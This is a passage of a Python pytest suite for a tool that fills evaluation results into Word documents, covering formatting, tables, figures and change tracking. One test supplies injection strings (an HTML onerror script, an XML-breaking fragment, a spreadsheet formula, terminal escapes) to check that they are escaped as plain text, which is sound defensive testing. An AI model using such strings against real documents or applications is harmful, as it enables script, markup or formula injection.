"""Papers are filled in place: what a run says, marked with that run, and every other byte as it was."""

from __future__ import annotations

import hashlib
import json
import re
import struct
from pathlib import Path

import pytest
from lxml import etree
from paper_builders import (
    LINKS,
    NAMESPACES,
    PLACEHOLDER,
    SLUG,
    W,
    a_run,
    cell,
    content_types,
    directory_of,
    document,
    in_line,
    libreoffice_paper,
    members_of,
    paragraph,
    picture,
    places,
    png,
    relationships,
    root,
    row,
    sdt,
    table,
    text_box,
    waiting_block,
    waiting_run,
    word_file,
    word_members,
    word_paper,
    write_run,
)

from cseval.errors import CsevalError, DataError, UsageError
from cseval.papers import embed, survey
from cseval.papers.contents import Contents
from cseval.papers.controls import find_controls
from cseval.papers.embed import embed_paper, plan_paper
from cseval.papers.survey import BY_HAND, CURRENT, EARLIER, FROM_REAL, FROM_SIMULATED, NOT_FILLED, SAME
from cseval.papers.tags import parse_tag

VALUE = "cseval:pilot/value/primary/percent_change"
TABLE = "cseval:pilot/effects"
FIGURE = "cseval:pilot/figure/series"
MAIN = "word/document.xml"
KINDS = {VALUE: "value", TABLE: "table", FIGURE: "figure"}
PNG_TYPE = content_types(more='<Default Extension="png" ContentType="image/png"/>')


@pytest.fixture
def outputs(tmp_path):
    return write_run(tmp_path / "outputs" / SLUG).parent


@pytest.fixture
def contents(outputs):
    return Contents(outputs)


def with_picture(body, *, name="image1.png", more=(), **parts):
    """A paper with one picture file that the main text refers to as ``rId20``."""
    links = relationships(*LINKS, ("rId20", "image", f"media/{name}"), *more)
    parts = {"word/_rels/document.xml.rels": links, f"word/media/{name}": png(), **parts}
    return word_file(word_members(body, **{"[Content_Types].xml": PNG_TYPE, **parts}))


def q(name):
    return f"{{{W}}}{name}"


def control(paper, tag, part=MAIN):
    """The content of the control with this tag, as a tree."""
    tree = etree.fromstring(members_of(paper)[part])
    (found,) = (t for t in tree.iter(q("tag")) if t.get(q("val")) == tag)
    return found.getparent().getparent().find(q("sdtContent"))


def text_of(node):
    return "".join(node.itertext(q("t")))


def properties(node):
    """What the properties of the one run of a control hold, as XML without namespaces declared."""
    (run,) = node.iter(q("r"))
    inner = run.find(q("rPr"))
    return (
        "" if inner is None else "".join(re.sub(r' xmlns:\w+="[^"]*"', "", etree.tostring(e).decode()) for e in inner)
    )


def outside(paper, part=MAIN):
    """The bytes of a part without the content of its controls and without the signs of placeholders."""
    content = members_of(paper)[part]
    at, kept = 0, []
    for found in find_controls(content, part, part).controls:
        kept.append(content[at : found.content.start].replace(b"<w:showingPlcHdr/>", b""))
        at = found.content.end
    return b"".join([*kept, content[at:]]).replace(b"<w:sdtContent/>", b"<w:sdtContent></w:sdtContent>")


def filled(paper, contents):
    """The paper filled, after checking what must hold for every one of them."""
    plan = plan_paper(paper, contents)
    again = plan_paper(plan.content, contents)
    assert again.content is plan.content
    assert {p.state for p in again.places} == {CURRENT}
    before, after = members_of(paper), members_of(plan.content)
    assert list(after)[: len(before)] == list(before)
    assert directory_of(plan.content)[: len(before)] == directory_of(paper)
    for name in before:
        if name.endswith(".xml") and before[name] != after[name] and not name.startswith("["):
            assert outside(plan.content, name) == outside(paper, name)
    return plan.content


def changed(paper, new):
    before = members_of(paper)
    return {name for name, content in members_of(new).items() if before.get(name) != content}


def rewritten(outputs, **changes):
    """The same outputs after another run that found something else."""
    write_run(outputs / SLUG, places(**changes))
    return Contents(outputs)


# Values -----------------------------------------------------------------------------------------------


def test_a_value_in_a_sentence_takes_the_formatting_of_the_paper(contents):
    body = in_line("by ", sdt(VALUE, a_run("old", '<w:b/><w:color w:val="C00000"/>') + a_run("er", "<w:i/>")))
    new = filled(word_paper(body), contents)
    assert text_of(control(new, VALUE)) == "−6.2%"
    assert properties(control(new, VALUE)) == '<w:b/><w:color w:val="C00000"/>'


def test_a_prompt_loses_its_grey_and_its_flag(contents):
    new = filled(word_paper(in_line("by ", waiting_run(VALUE))), contents)
    assert properties(control(new, VALUE)) == ""
    assert b"showingPlcHdr" not in members_of(new)[MAIN]
    assert b"<w:placeholder>" in members_of(new)[MAIN]


def test_a_prompt_gives_way_to_the_formatting_that_its_control_gives_typed_text(contents):
    new = filled(word_paper(in_line("by ", waiting_run(VALUE, "<w:rPr><w:b/></w:rPr>"))), contents)
    assert properties(control(new, VALUE)) == "<w:b/>"


def test_the_style_of_placeholder_text_goes_even_where_the_flag_is_gone(contents):
    run = a_run("old", '<w:rStyle w:val="PlaceholderText"></w:rStyle><w:b/>')
    new = filled(word_paper(in_line("by ", sdt(VALUE, run))), contents)
    assert properties(control(new, VALUE)) == "<w:b/>"


def test_another_character_style_stays(contents):
    new = filled(word_paper(in_line("by ", sdt(VALUE, a_run("old", '<w:rStyle w:val="Strong"/>')))), contents)
    assert properties(control(new, VALUE)) == '<w:rStyle w:val="Strong"/>'


def test_a_value_in_a_paragraph_of_its_own_keeps_the_paragraphs_formatting(contents):
    body = sdt(VALUE, paragraph("old", '<w:jc w:val="right"/>', "<w:i/>") + paragraph("more"))
    new = control(filled(word_paper(body), contents), VALUE)
    assert [child.tag for child in new] == [q("p")]
    assert new[0].find(f"{q('pPr')}/{q('jc')}").get(q("val")) == "right"
    assert properties(new) == "<w:i/>"


def test_a_value_in_a_control_around_a_cell_keeps_the_cell(contents):
    new = filled(word_paper(table(row(cell(paragraph("Change")), sdt(VALUE, cell(paragraph("x")))))), contents)
    (only,) = control(new, VALUE)
    assert only.tag == q("tc")
    assert only[0].tag == q("tcPr")
    assert text_of(only) == "−6.2%"


@pytest.mark.parametrize("place", ["<w:p>{}</w:p>", "{}"])
def test_an_empty_control_is_opened(contents, place):
    new = filled(word_paper(place.format(sdt(VALUE, "", closed=True))), contents)
    assert text_of(control(new, VALUE)) == "−6.2%"


def test_the_hash_of_the_run_can_stand_in_a_sentence(contents):
    tag = "cseval:pilot/value/run/manifest"
    new = filled(word_paper(in_line("Run ", waiting_run(tag))), contents)
    assert re.fullmatch("[0-9a-f]{16}", text_of(control(new, tag)))


def test_headers_footers_footnotes_and_endnotes_are_filled(contents):
    def numbered(i):
        return in_line("x ", waiting_run(f"{VALUE}#{i}"))

    parts = {
        "word/header1.xml": root("hdr", numbered(2)),
        "word/footer1.xml": root("ftr", numbered(3)),
        "word/footnotes.xml": root("footnotes", f'<w:footnote w:id="1">{numbered(4)}</w:footnote>'),
        "word/endnotes.xml": root("endnotes", f'<w:endnote w:id="1">{numbered(5)}</w:endnote>'),
    }
    paper = word_file(word_members("", **parts))
    new = filled(paper, contents)
    assert changed(paper, new) == set(parts)
    assert text_of(control(new, f"{VALUE}#3", "word/footer1.xml")) == "−6.2%"
    assert [p.part for p in plan_paper(new, contents).places] == ["header1", "footer1", "footnotes", "endnotes"]


def test_a_control_in_a_group_control_and_beside_controls_of_the_paper(contents):
    group = sdt("", paragraph("a") + in_line("by ", waiting_run(VALUE)), properties="<w:group/>")
    new = filled(word_paper(sdt("mine", group) + sdt("mine", paragraph("left"))), contents)
    assert text_of(control(new, VALUE)) == "−6.2%"
    assert b">left<" in members_of(new)[MAIN]


def test_a_locked_control_is_filled(contents):
    lock = '<w:lock w:val="sdtContentLocked"/>'
    assert filled(word_paper(in_line("by ", waiting_run(VALUE, lock))), contents)


def test_a_text_box_that_word_keeps_twice_is_one_place(contents):
    inside = in_line("by ", waiting_run(VALUE))
    paper = word_paper(text_box(inside, inside))
    new = filled(paper, contents)
    assert members_of(new)[MAIN].count("−6.2%".encode()) == 2
    assert len(plan_paper(paper, contents).places) == 1


def test_bookmarks_of_the_paper_stay_around_the_value(contents):
    inner = f'<w:bookmarkStart w:id="5" w:name="_Ref9"/>{a_run("old")}<w:bookmarkEnd w:id="5"/>'
    new = control(filled(word_paper(in_line("by ", sdt(VALUE, inner))), contents), VALUE)
    assert [etree.QName(c).localname for c in new] == [*["bookmarkStart"] * 2, "bookmarkEnd", "r", "bookmarkEnd"]
    assert new[0].get(q("name")) == "_Ref9"
    assert new[-1].get(q("id")) == "5"


@pytest.mark.parametrize("prefix", ["ns0", "x"])
def test_a_paper_with_another_prefix_than_w(contents, prefix):
    body = waiting_block(TABLE) + in_line("by ", sdt(VALUE, a_run("old", "<w:b/>"))) + waiting_block(FIGURE)
    content = document(body).decode().replace("<w:", f"<{prefix}:").replace("</w:", f"</{prefix}:")
    content = content.replace("xmlns:w=", f"xmlns:{prefix}=").replace(" w:", f" {prefix}:")
    paper = word_file(word_members(**{MAIN: content.encode()}))
    plan = plan_paper(paper, contents)
    assert plan_paper(plan.content, contents).content is plan.content
    assert text_of(control(plan.content, VALUE)) == "−6.2%"
    assert control(plan.content, VALUE).find(f".//{q('b')}") is not None
    assert control(plan.content, TABLE).find(q("tbl")) is not None


def test_formatting_whose_prefix_is_declared_inside_the_control_keeps_it(contents):
    inner = '<w:r xmlns:q="urn:q"><w:rPr><w:b/><q:glow/></w:rPr><w:t>old</w:t></w:r>'
    new = filled(word_paper(in_line("by ", sdt(VALUE, inner))), contents)
    assert control(new, VALUE).find(".//{urn:q}glow") is not None


def test_a_prefix_w_that_means_something_else_is_refused(contents):
    content = document(in_line("by ", sdt(VALUE, a_run("old", "<w:b/><y:x/>")))).decode()
    content = content.replace("<w:", "<ns0:").replace("</w:", "</ns0:").replace(" w:", " ns0:")
    content = content.replace("xmlns:w=", 'xmlns:y="urn:y" xmlns:w="urn:w" xmlns:ns0=').replace("<y:x/>", "<w:x/>")
    with pytest.raises(DataError, match="the prefix w"):
        plan_paper(word_file(word_members(**{MAIN: content.encode()})), contents)


DECLARATIONS = (
    "",
    "\ufeff",
    "<?xml version='1.0' encoding=\"UTF-8\" standalone='yes'?>\r\n",
    '\ufeff<?xml version="1.0" encoding="utf-8"?>\n<!-- a -->',
)


@pytest.mark.parametrize("declaration", DECLARATIONS)
def test_whatever_a_part_begins_with_stays(contents, declaration):
    body = paragraph("line\r\nend") + in_line("ä by ", waiting_run(VALUE))
    paper = word_file(word_members(**{MAIN: document(body, declaration=declaration)}))
    assert members_of(filled(paper, contents))[MAIN].startswith(declaration.encode())


# Tables -----------------------------------------------------------------------------------------------


def test_a_table_has_caption_rows_and_the_run_in_words(contents):
    new = control(filled(word_paper(waiting_block(TABLE)), contents), TABLE)
    assert [etree.QName(c).localname for c in new] == ["p", "tbl", "p", "p"]
    assert text_of(new[0]) == "Estimated effects, Neighbourhood Management Pilot"
    assert [text_of(c) for c in new[1].iter(q("tc"))][3:6] == ["Disorder", "−6.2%", "−19.9% to 7.4%"]
    assert re.fullmatch(rf"Run [0-9a-f]{{16}} of cseval {SLUG}\.", text_of(new[-1]))


def test_a_paragraph_follows_a_table_that_ends_a_cell(contents):
    new = filled(word_paper(table(row(cell(waiting_block(TABLE), width=5000)))), contents)
    inner = control(new, TABLE)
    assert inner[-1].tag == q("p")
    assert int(inner.find(f"{q('tbl')}/{q('tblPr')}/{q('tblW')}").get(q("w"))) == 5000 - 216


def test_a_paragraph_follows_a_table_without_notes_too(contents, monkeypatch):
    monkeypatch.setattr("cseval.papers.fill.table_block", lambda *_, **__: "<w:tbl/>")
    monkeypatch.setattr(embed, "_require_current", lambda *_: None)
    new = plan_paper(word_paper(waiting_block(TABLE)), contents).content
    assert [etree.QName(c).localname for c in control(new, TABLE)] == ["tbl", "p"]


STYLE = '<w:style w:type="table" w:styleId="{0}"><w:name w:val="{1}"/></w:style>'


@pytest.mark.parametrize(
    ("styles", "there", "used"),
    [
        (STYLE.format("Grid", "Table Grid") + STYLE.format("CT", "cseval table"), "Grid", "Grid"),
        (STYLE.format("Grid", "Table Grid") + STYLE.format("CT", "Cseval Table"), "", "CT"),
        (STYLE.format("CT", "cseval table"), "Gone", "CT"),
        (STYLE.format("TableNormal", "Normal Table"), "TableNormal", None),
        ("", "", None),
    ],
)
def test_the_table_style_is_the_papers_own(contents, styles, there, used):
    old = f'<w:tbl><w:tblPr><w:tblStyle w:val="{there}"/></w:tblPr></w:tbl>' if there else ""
    parts = {"word/styles.xml": root("styles", styles), MAIN: document(sdt(TABLE, old + paragraph("x")))}
    new = filled(word_file(word_members(**parts)), contents)
    style = control(new, TABLE).find(f".//{q('tblStyle')}")
    assert (style.get(q("val")) if style is not None else None) == used
    assert (control(new, TABLE).find(f".//{q('tblBorders')}") is None) == (used is not None)


def test_a_cross_reference_to_the_caption_still_finds_it(contents):
    old = f'<w:p><w:bookmarkStart w:id="8" w:name="_Ref1"/>{a_run("Table 1")}<w:bookmarkEnd w:id="8"/></w:p>'
    caption = control(filled(word_paper(sdt(TABLE, old)), contents), TABLE)[0]
    inside = [etree.QName(c).localname for c in caption]
    assert inside == ["pPr", *["bookmarkStart"] * 2, "bookmarkEnd", "r", "fldSimple", "r", "r", "bookmarkEnd"]


def test_a_caption_keeps_its_number_and_its_style(contents, outputs):
    style = '<w:style w:type="paragraph" w:styleId="Own"><w:name w:val="Table caption"/></w:style>'
    old = paragraph("Table 12. An old title", '<w:pStyle w:val="Own"/>')
    parts = {"word/styles.xml": root("styles", style), MAIN: document(sdt(TABLE, old))}
    paper = filled(word_file(word_members(**parts)), contents)
    for made in (paper, filled(paper, rewritten(outputs, change="−7.0%"))):
        caption = control(made, TABLE)[0]
        assert text_of(caption) == "Table 12: Estimated effects, Neighbourhood Management Pilot"
        assert caption.find(f".//{q('pStyle')}").get(q("val")) == "Own"
        assert caption.find(q("fldSimple")).get(q("instr")) == " SEQ Table \\* ARABIC "


@pytest.mark.parametrize(
    ("style", "first", "used"),
    [("Body", "Table 2", "Caption"), ("Caption", "A table of 3 rows", "Caption"), ("", "Tables 2", "Caption")],
)
def test_a_paragraph_that_is_no_caption_gives_neither_number_nor_style(contents, style, first, used):
    old = paragraph(first, f'<w:pStyle w:val="{style}"/>' if style else "")
    caption = control(filled(word_paper(sdt(TABLE, old)), contents), TABLE)[0]
    assert caption.find(f".//{q('pStyle')}").get(q("val")) == used
    assert text_of(caption).startswith("Table 2: ") == (first == "Table 2")


@pytest.mark.parametrize(
    ("styles", "named"),
    [
        (
            '<w:docDefaults><w:rPrDefault><w:rPr><w:rFonts w:ascii="Arial"/></w:rPr></w:rPrDefault></w:docDefaults>',
            False,
        ),
        (
            '<w:style w:type="paragraph" w:default="1" w:styleId="N"><w:name w:val="Normal"/><w:rPr>'
            '<w:rFonts w:ascii="Verdana"/></w:rPr></w:style>',
            True,
        ),
        ("", True),
    ],
)
def test_in_a_narrow_paper_of_another_font_a_table_brings_a_font_whose_widths_are_known(outputs, styles, named):
    content = places()
    headings = ["Outcome", *[f"Characteristic {i}" for i in range(8)]]
    wide = {"headings": headings, "numeric": [False] * 9, "rows": [["Disorder", *["−19.9% to 7.4%"] * 8]]}
    content["tables"]["effects"] |= wide
    write_run(outputs / SLUG, content)
    parts = {"word/styles.xml": root("styles", styles), MAIN: document(waiting_block(TABLE))}
    new = control(filled(word_file(word_members(**parts)), Contents(outputs)), TABLE)
    fonts = {f.get(q("ascii")) for f in new.find(q("tbl")).iter(q("rFonts"))}
    assert fonts == ({"Arial"} if named else set())


def test_hostile_labels_are_text_and_nothing_else(outputs):
    hostile = ["<img src=x onerror=alert(1)>", "]]></w:t><w:evil/>", "=HYPERLINK(1)", "\x07bell\x1b[2J", "&amp;"]
    content = places()
    content["tables"]["effects"]["rows"] = [[label, "1", "2"] for label in hostile]
    content["values"]["primary"]["percent_change"] = "".join(hostile)
    write_run(outputs / SLUG, content)
    new = filled(word_paper(waiting_block(TABLE) + in_line("by ", waiting_run(VALUE))), Contents(outputs))
    cells = [text_of(c) for c in control(new, TABLE).iter(q("tc"))][3::3]
    assert cells == [*hostile[:3], "\ufffdbell\ufffd[2J", "&amp;"]
    assert control(new, TABLE).find(f".//{q('evil')}") is None
    assert text_of(control(new, VALUE)) == "".join(cells)


# Figures ----------------------------------------------------------------------------------------------


def drawn(node):
    """Size, alternative text, title and picture of the one drawing in a control."""
    (extent,) = node.iter("{*}extent")
    (said,) = node.iter("{*}docPr")
    (shape,) = (e for e in node.iter("{*}ext") if e.get("cx"))
    (blip,) = node.iter("{*}blip")
    assert (shape.get("cx"), shape.get("cy")) == (extent.get("cx"), extent.get("cy"))
    (relation,) = (v for k, v in blip.attrib.items() if k.endswith("embed"))
    return int(extent.get("cx")), int(extent.get("cy")), said.get("descr"), said.get("title"), relation


def test_a_picture_of_its_own_is_exchanged_in_place(contents):
    body = sdt(FIGURE, f"<w:p>{picture('rId20', alt='an old one', width=3_600_000)}</w:p>", properties="<w:picture/>")
    paper = with_picture(body)
    new = filled(paper, contents)
    assert changed(paper, new) == {MAIN, "word/media/image1.png"}
    assert members_of(new)["word/media/image1.png"] == png(40, 20, 10)
    assert drawn(control(new, FIGURE)) == (3_600_000, 1_800_000, "Figure series: a fall.", "", "rId20")
    assert [etree.QName(e).localname for e in control(new, FIGURE)[0]] == ["bookmarkStart", "bookmarkEnd", "r"]
    named = {e.get("descr") for e in control(new, FIGURE).iter("{*}cNvPr")}
    assert named == {"Figure series: a fall."}


def test_a_shared_placeholder_picture_stays_for_the_others(contents):
    other = "cseval:pilot/figure/forest"
    pictures = sdt(FIGURE, f"<w:p>{picture('rId20')}</w:p>") + sdt(other, f"<w:p>{picture('rId20', number=2)}</w:p>")
    paper = with_picture(pictures + f"<w:p>{picture('rId20', number=3)}</w:p>")
    new = filled(paper, contents)
    members = members_of(new)
    assert members["word/media/image1.png"] == png()
    assert members["word/media/cseval1.png"] == png(40, 20, 10)
    assert members["word/media/cseval2.png"] == png(30, 60, 20)
    assert drawn(control(new, FIGURE))[-1] == "rIdCseval1"
    assert drawn(control(new, other))[:2] == (3_600_000, 7_200_000)
    assert members["[Content_Types].xml"] == PNG_TYPE


def test_a_picture_that_another_part_shows_too_stays_for_it(contents):
    links = relationships(("rId1", "image", "media/image1.png"))
    paper = with_picture(sdt(FIGURE, f"<w:p>{picture('rId20')}</w:p>"), **{"word/_rels/header1.xml.rels": links})
    assert members_of(filled(paper, contents))["word/media/image1.png"] == png()


@pytest.mark.parametrize("reference", ["o:relid", "r:id", "r:pict"])
def test_a_picture_that_an_older_drawing_shows_too_stays_for_it(contents, reference):
    office = 'xmlns:o="urn:schemas-microsoft-com:office:office"'
    old = f'<w:p><w:r><w:pict><v:shape><v:imagedata {office} {reference}="rId20"/></v:shape></w:pict></w:r></w:p>'
    new = filled(with_picture(sdt(FIGURE, f"<w:p>{picture('rId20')}</w:p>") + old), contents)
    assert members_of(new)["word/media/image1.png"] == png()
    assert drawn(control(new, FIGURE))[-1] == "rIdCseval1"


def test_a_picture_of_another_format_gets_a_file_of_its_own(contents):
    paper = with_picture(sdt(FIGURE, f"<w:p>{picture('rId20')}</w:p>"), name="image1.jpeg")
    new = filled(paper, contents)
    assert members_of(new)["word/media/image1.jpeg"] == png()
    assert drawn(control(new, FIGURE))[-1] == "rIdCseval1"


def test_a_control_without_a_picture_gets_one_with_everything_it_needs(contents):
    paper = word_paper(waiting_block(FIGURE))
    new = filled(paper, contents)
    members = members_of(new)
    assert changed(paper, new) == {
        MAIN,
        "word/_rels/document.xml.rels",
        "[Content_Types].xml",
        "word/media/cseval1.png",
    }
    assert b'<Default Extension="png" ContentType="image/png"/></Types>' in members["[Content_Types].xml"]
    assert b'Target="media/cseval1.png"/></Relationships>' in members["word/_rels/document.xml.rels"]
    assert drawn(control(new, FIGURE))[:3] == (9026 * 635, 9026 * 635 // 2, "Figure series: a fall.")


def test_png_said_to_be_something_else_gets_a_type_by_name(contents):
    types = content_types(more='<Default Extension="PNG" ContentType="image/x-png"/>')
    new = filled(word_file(word_members(waiting_block(FIGURE), **{"[Content_Types].xml": types})), contents)
    assert b'<Override PartName="/word/media/cseval1.png"' in members_of(new)["[Content_Types].xml"]


def test_a_header_without_relationships_gets_a_list_of_them(contents):
    paper = word_file(word_members("", **{"word/header1.xml": root("hdr", waiting_block(FIGURE))}))
    new = filled(paper, contents)
    assert changed(paper, new) >= {"word/header1.xml", "word/_rels/header1.xml.rels", "word/media/cseval1.png"}


def test_free_names_and_numbers_are_taken(contents):
    more = (("rIdCseval1", "image", "media/cseval1.png"),)
    body = f"<w:p>{picture('rIdCseval1', number=1)}</w:p>" + waiting_block(FIGURE)
    new = filled(with_picture(body, more=more, **{"word/media/cseval1.png": png()}), contents)
    assert drawn(control(new, FIGURE))[-1] == "rIdCseval2"
    assert members_of(new)["word/media/cseval2.png"] == png(40, 20, 10)
    assert control(new, FIGURE).find(".//{*}docPr").get("id") == "2"


def test_a_figure_higher_than_the_page_is_made_narrower(outputs):
    write_run(outputs / SLUG, pictures={"series": png(10, 40)})
    width, height, *_ = drawn(control(filled(word_paper(waiting_block(FIGURE)), Contents(outputs)), FIGURE))
    assert height <= (16838 - 2880) * 635
    assert height == pytest.approx(4 * width, rel=1e-6)


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("<a:blip ", '<a:blip r:link="rId20" '),
        ("<a:stretch>", '<a:srcRect l="5000"/><a:stretch>'),
        (
            "</a:blip>",
            '<a:extLst><a:ext uri="u"><s:svgBlip xmlns:s="urn:s" r:embed="rId20"/></a:ext></a:extLst></a:blip>',
        ),
        ("</a:blip>", "<a:grayscl/></a:blip>"),
        ("<wp:cNvGr", '<d:decorative xmlns:d="urn:d" val="1"/><wp:cNvGr'),
    ],
)
def test_a_picture_with_effects_is_drawn_anew_in_its_width(contents, old, new):
    body = sdt(FIGURE, f"<w:p>{picture('rId20').replace(old, new, 1)}</w:p>")
    made = filled(with_picture(body), contents)
    inner = control(made, FIGURE)
    assert drawn(inner)[:2] == (3_600_000, 1_800_000)
    assert drawn(inner)[-1] == "rIdCseval1"
    assert not list(inner.iter("{*}svgBlip", "{*}decorative", "{*}srcRect", "{*}grayscl"))


def test_a_text_box_that_word_keeps_twice_shares_one_new_picture(contents):
    paper = word_paper(text_box(waiting_block(FIGURE), waiting_block(FIGURE)))
    new = filled(paper, contents)
    assert [n for n in members_of(new) if n.startswith("word/media/")] == ["word/media/cseval1.png"]


def test_a_picture_inside_a_sentence_and_one_in_a_cell(contents):
    other = "cseval:pilot/figure/forest"
    body = in_line("see ", waiting_run(FIGURE)) + table(row(sdt(other, cell(paragraph("x"), width=3216))))
    new = filled(word_paper(body), contents)
    assert drawn(control(new, FIGURE))[0] == 9026 * 635
    assert drawn(control(new, other))[0] == 3000 * 635


@pytest.mark.parametrize(
    "bad", [b"", b"GIF89a" + bytes(40), png()[:20], png()[:16] + struct.pack(">II", 0, 5) + bytes(9)]
)
def test_a_figure_that_is_no_picture_is_refused(outputs, bad):
    write_run(outputs / SLUG, pictures={"series": bad})
    with pytest.raises(DataError, match="picture"):
        plan_paper(word_paper(waiting_block(FIGURE)), Contents(outputs))


# States -----------------------------------------------------------------------------------------------

ALL = waiting_block(TABLE) + in_line("by ", waiting_run(VALUE)) + waiting_block(FIGURE)


def states(paper, contents):
    return {KINDS[p.tag]: p.state for p in plan_paper(paper, contents).places}


def test_an_unfilled_paper_and_one_just_filled(contents):
    paper = word_paper(ALL)
    assert set(states(paper, contents).values()) == {NOT_FILLED}
    assert set(states(filled(paper, contents), contents).values()) == {CURRENT}


def test_after_another_run_that_found_something_else_places_are_filled_anew(contents, outputs):
    old = filled(word_paper(ALL), contents)
    later = rewritten(outputs, change="−7.0%")
    assert states(old, later) == {"table": EARLIER, "value": EARLIER, "figure": SAME}
    new = filled(old, later)
    assert text_of(control(new, VALUE)) == "−7.0%"
    assert members_of(new)[MAIN].count(b"_cseval_") == 3
    assert [n for n in members_of(new) if "media" in n] == ["word/media/cseval1.png"]


def test_going_back_to_the_earlier_run_gives_the_earlier_bytes(contents, outputs):
    old = filled(word_paper(ALL), contents)
    new = filled(old, rewritten(outputs, change="−7.0%"))
    assert filled(new, rewritten(outputs)) == old


def same_again(outputs):
    """The same outputs by another command, so that only the hash of the run is another."""
    manifest = json.loads((outputs / SLUG / "manifest.json").read_bytes())
    spoil(outputs / SLUG, "manifest.json", json.dumps({**manifest, "command": "cseval run again"}).encode())
    return Contents(outputs)


def test_after_another_run_that_found_the_same_only_the_hash_changes(contents, outputs):
    tag = "cseval:pilot/value/run/manifest"
    old = filled(word_paper(ALL + in_line("Run ", waiting_run(tag))), contents)
    later, before = same_again(outputs), plan_paper(old, contents).places[0].run
    plan = plan_paper(old, later)
    after = plan.places[0].last_run
    assert (before != after, len(plan.renewed), plan.stale) == (True, 4, ())
    assert {p.state for p in plan.places} == {SAME}
    assert changed(old, filled(old, later)) == {MAIN}
    assert members_of(plan.content)[MAIN] == members_of(old)[MAIN].replace(before.encode(), after.encode())


def test_what_a_person_formatted_or_noted_stays_where_only_the_hash_changes(contents, outputs):
    content = members_of(filled(word_paper(in_line("by ", waiting_run(VALUE))), contents))
    own = a_run("−6", "<w:b/>") + '<w:commentRangeEnd w:id="1"/>' + a_run(".2%")
    main = re.sub("<w:r><w:t[^>]*>−6.2%</w:t></w:r>", own, content[MAIN].decode()).encode()
    paper, later = word_file({**content, MAIN: main}), same_again(outputs)
    assert states(paper, later) == {"value": SAME}
    assert own.encode() in members_of(filled(paper, later))[MAIN]


def test_a_place_whose_mark_word_moved_out_is_filled_anew_where_only_the_hash_changes(contents, outputs):
    content = members_of(filled(word_paper(in_line("by ", waiting_run(VALUE))), contents))
    (mark,) = re.findall(rb"<w:bookmarkStart[^>]*><w:bookmarkEnd[^>]*>", content[MAIN])
    moved = content[MAIN].replace(mark, b"").replace(b"<w:sdt>", mark + b"<w:sdt>")
    new = plan_paper(word_file({**content, MAIN: moved}), same_again(outputs)).content
    assert set(states(new, Contents(outputs)).values()) == {CURRENT}


def test_what_word_does_on_saving_is_no_change(contents):
    content = members_of(filled(word_paper(ALL), contents))
    main = content[MAIN].decode()
    main = main.replace(
        '<w:t xml:space="preserve">−6.2%</w:t></w:r></w:sdtContent>',
        ('<w:t>−6</w:t></w:r><w:proofErr w:type="gramStart"/><w:r w:rsidR="009"><w:t>.2%</w:t></w:r></w:sdtContent>'),
    )
    main = main.replace("<w:tr>", '<w:tr w:rsidR="00C1" w14:paraId="1F">').replace(
        "Estimated effects", "Estimated  effects"
    )
    assert main.encode() != content[MAIN]
    assert set(states(word_file({**content, MAIN: main.encode()}), contents).values()) == {CURRENT}


def test_what_a_person_does_is_named(contents):
    content = members_of(filled(word_paper(ALL), contents))
    main = content[MAIN].decode().replace("−6.2%", "−6%").replace("a fall.", "a rise.")
    paper = word_file({**content, MAIN: main.encode()})
    assert set(states(paper, contents).values()) == {BY_HAND}
    assert plan_paper(paper, contents).places[1].now == "−6%"
    exchanged = word_file({**content, "word/media/cseval1.png": png(9, 9)})
    assert states(exchanged, contents) == {"table": CURRENT, "value": CURRENT, "figure": BY_HAND}


@pytest.mark.parametrize(
    ("old", "new", "said"),
    [
        (">1.5%<", ">1%<", "row “Robbery”, column “Change”: “1%” where the last run says “1.5%”"),
        (">1.5%<", "><", "row “Robbery”, column “Change”: not what the last run says “1.5%”"),
        (">95% interval<", ">Span<", "heading “95% interval”: “Span” where the last run says “95% interval”"),
        (">Estimated effects,", ">Effects,", "caption: “Effects, Neighbourhood Management Pilot” where the last run"),
        (">Source: ", ">By: ", "notes: “By: Metropolitan Police Service.” where the last run says “Source: Metro"),
        ("</w:sdtContent>", paragraph("More.") + "</w:sdtContent>", "more than the last run says: “More.”"),
    ],
)
def test_the_first_cell_that_a_person_changed_is_named(contents, old, new, said):
    content = members_of(filled(word_paper(waiting_block(TABLE)), contents))
    paper = word_file({**content, MAIN: content[MAIN].decode().replace(old, new, 1).encode()})
    (place,) = plan_paper(paper, contents).places
    assert place.state == BY_HAND
    assert place.difference.startswith(said)
    assert plan_paper(filled(paper, contents), contents).places[0].difference == ""


def test_formatting_by_hand_is_left_alone(contents):
    content = members_of(filled(word_paper(in_line("by ", waiting_run(VALUE))), contents))
    bold = content[MAIN].replace(b"<w:r><w:t", b"<w:r><w:rPr><w:b/></w:rPr><w:t")
    paper = word_file({**content, MAIN: bold})
    assert plan_paper(paper, contents).content is paper


def test_a_number_typed_over_the_mark_is_not_filled(contents):
    content = members_of(filled(word_paper(in_line("by ", waiting_run(VALUE))), contents))
    without = re.sub(rb"<w:bookmark(Start|End)[^>]*>", b"", content[MAIN])
    assert states(word_file({**content, MAIN: without}), contents) == {"value": NOT_FILLED}


def test_a_mark_that_word_moved_out_of_the_control_still_counts(contents):
    content = members_of(filled(word_paper(in_line("by ", waiting_run(VALUE))), contents))
    (mark,) = re.findall(rb"<w:bookmarkStart[^>]*><w:bookmarkEnd[^>]*>", content[MAIN])
    moved = content[MAIN].replace(mark, b"").replace(b"<w:sdt>", mark + b"<w:sdt>")
    assert states(word_file({**content, MAIN: moved}), contents) == {"value": CURRENT}


def test_every_filled_control_carries_the_run_in_a_hidden_bookmark(contents):
    new = filled(
        word_paper(ALL + '<w:p><w:bookmarkStart w:id="2" w:name="mine"/><w:bookmarkEnd w:id="2"/></w:p>'), contents
    )
    run = plan_paper(new, contents).places[0].run
    tree = etree.fromstring(members_of(new)[MAIN])
    marks = [b for b in tree.iter(q("bookmarkStart")) if b.get(q("name")).startswith("_cseval_")]
    assert len({b.get(q("name")) for b in marks}) == 3
    assert all(re.fullmatch(f"_cseval_{run}_[0-9a-f]{{8}}", b.get(q("name"))) for b in marks)
    assert all(len(b.get(q("name"))) <= 40 for b in marks)
    numbers = [b.get(q("id")) for b in tree.iter(q("bookmarkStart"))]
    assert sorted(numbers) == ["1", "2", "3", "4"]
    assert sorted(b.get(q("id")) for b in tree.iter(q("bookmarkEnd"))) == sorted(numbers)


def test_each_place_leads_back_to_its_row(contents):
    found = {p.kind: p.origin for p in plan_paper(word_paper(ALL), contents).places}
    assert found["value"].words() == "outputs/pilot-evaluation/effects.csv, row 2, column percent_change"
    assert found["table"].words() == "outputs/pilot-evaluation/effects.csv"
    assert found["figure"].words() == "outputs/pilot-evaluation/figures/series.png"
    tags = [
